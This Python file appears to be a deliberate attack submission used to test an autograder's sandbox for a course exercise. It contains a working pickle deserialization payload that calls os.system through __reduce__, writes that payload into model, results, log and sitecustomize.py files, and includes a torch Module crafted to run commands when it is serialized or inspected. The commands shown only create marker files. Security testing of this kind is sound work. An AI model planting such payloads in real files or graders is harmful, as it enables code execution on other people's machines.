# /// attack
# tries = "writes state files that run a program for whoever loads them"
# sheet = "lehreinheit10"
# total = 1
# [parts]
# 1a = "right"
# 1g = ["wrong", "undecided"]
# ///

# %%
def aufgabe_1a(n_in, n_out, var_w, var_x):
    return n_in * var_w * var_x

# %%
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@-pickle /dev/shm/@MARK@-pickle",)


for name in ("netz.pt", "state_dict.pth", "results.pkl", ".OTTER_LOG", "sitecustomize.py"):
    with open(name, "wb") as file:
        pickle.dump({"weight": Bomb()}, file)


class Netz(torch.nn.Module):
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@-net",)

    __getstate__ = __reduce__

    def named_parameters(self, *_, **__):
        return [("weight", Bomb()), (Bomb(), pickle.dumps(Bomb()))]


def aufgabe_1g_netz(widths, seed):
    return Netz()


def aufgabe_1g_training(netz, x_train, y_train, x_test, y_test, seed):
    return netz
